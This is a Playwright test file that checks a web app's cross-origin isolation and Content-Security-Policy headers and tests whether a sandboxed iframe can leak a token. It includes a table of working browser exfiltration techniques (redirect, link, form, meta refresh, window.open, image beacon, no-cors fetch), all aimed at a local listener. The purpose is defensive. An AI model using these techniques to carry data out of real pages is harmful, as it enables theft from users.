/** The headers that are really sent, and what they stop. */
import type { Frame, Page } from '@playwright/test';
import type { Listener } from '../tools/listener.mjs';
import { startListener } from '../tools/listener.mjs';
import { serveApp } from '../tools/start.mjs';
import { expect, test } from './fixtures/test.ts';

test('the page, its worker and its files are isolated and bound by a policy', async ({ page, request }) => {
  for (const path of ['/', '/vivarium.js', '/modules.worker.js', '/data/penguins.csv']) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': expect.stringMatching(
        /^(credentialless|require-corp)$/u,
      ) as unknown as string,
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
    });
    const policy = headers['content-security-policy'] ?? '';
    for (const rule of [
      "default-src 'none'",
      "frame-src 'self'",
      "base-uri 'none'",
      "form-action 'none'",
      "worker-src 'self'",
    ])
      expect(policy, path).toContain(rule);
    expect(policy, path).not.toMatch(/'unsafe-eval'|script-src[^;]*'unsafe-inline'| \*(;| |$)/u);
    // only the worker that imports edited modules may take scripts from blobs
    expect(/script-src[^;]*blob:/u.test(policy), path).toBe(path === '/modules.worker.js');
  }
  await page.goto('/');
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test('the sandbox frame has rules of its own: an opaque origin that connects to nothing', async ({
  request,
}) => {
  const headers = (await request.get('/sandbox/frame.html')).headers();
  const policy = headers['content-security-policy'] ?? '';
  for (const rule of [
    'sandbox allow-scripts',
    "default-src 'none'",
    "connect-src 'none'",
    'worker-src blob:',
    "form-action 'none'",
  ])
    expect(policy).toContain(rule);
  expect(policy).not.toContain('allow-same-origin');
  expect(headers['cross-origin-embedder-policy']).toMatch(/^(credentialless|require-corp)$/u);
});

/** What a script inside the frame could try to carry its token out by itself. */
const ways: Readonly<Record<string, (address: string) => void>> = {
  'its own address': (address) => location.assign(address),
  'a link': (address) => {
    const link = document.createElement('a');
    link.href = address;
    document.documentElement.append(link);
    link.click();
  },
  'a form': (address) => {
    const form = document.createElement('form');
    form.action = address;
    document.documentElement.append(form);
    form.submit();
  },
  'a refresh': (address) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${address}`;
    document.documentElement.append(meta);
  },
  'the top of the page': (address) => {
    if (top) top.location.href = address;
  },
  'a window': (address) => void open(address),
  'an image': (address) => {
    new Image().src = address;
  },
  'a fetch': (address) => void fetch(address, { mode: 'no-cors' }),
};

async function addFrame(page: Page): Promise<Frame> {
  await page.evaluate(
    () =>
      new Promise<void>((done) => {
        const frame = document.createElement('iframe');
        frame.sandbox.add('allow-scripts');
        frame.src = '/sandbox/frame.html';
        frame.name = `probe-${crypto.randomUUID()}`;
        frame.addEventListener('load', () => done(), { once: true });
        document.documentElement.append(frame);
      }),
  );
  const frame = page.frames().findLast((candidate) => candidate.name().startsWith('probe-'));
  if (!frame) throw new Error('the probe has no frame');
  return frame;
}

/** Tries every way in a frame of its own; a way that throws has failed, too. */
async function tryAll(page: Page, listener: Listener): Promise<Record<string, number>> {
  for (const [at, way] of Object.values(ways).entries()) {
    const frame = await addFrame(page);
    await frame.evaluate(way, `${listener.url}/hit/way-${at}`).catch(() => undefined);
  }
  // a request of the page itself comes after all of theirs
  await page.evaluate(
    (address) => fetch(address, { mode: 'no-cors' }).then(() => undefined),
    `${listener.url}/hit/last`,
  );
  await expect.poll(() => listener.hits('last')).toBe(1);
  return Object.fromEntries(Object.keys(ways).map((name, at) => [name, listener.hits(`way-${at}`)]));
}

test('a frame that tries to leave with what it knows reaches nobody', async ({ page }) => {
  const listener = await startListener();
  try {
    await page.goto('/');
    const url = page.url();
    const hits = await tryAll(page, listener);
    expect(hits).toEqual(Object.fromEntries(Object.keys(ways).map((name) => [name, 0])));
    expect(page.url()).toBe(url);
  } finally {
    await listener.close();
  }
});

test('the control: without policies the same frame gets out', async ({ page }) => {
  const listener = await startListener();
  const server = await serveApp({ port: 0, isDefended: false });
  try {
    await page.goto(server.url);
    const hits = await tryAll(page, listener);
    expect(hits).toMatchObject({ 'an image': 1, 'a fetch': 1 });
    expect(hits['its own address']).toBeGreaterThan(0);
    expect(hits['a link']).toBeGreaterThan(0);
  } finally {
    await server.close();
    await listener.close();
  }
});
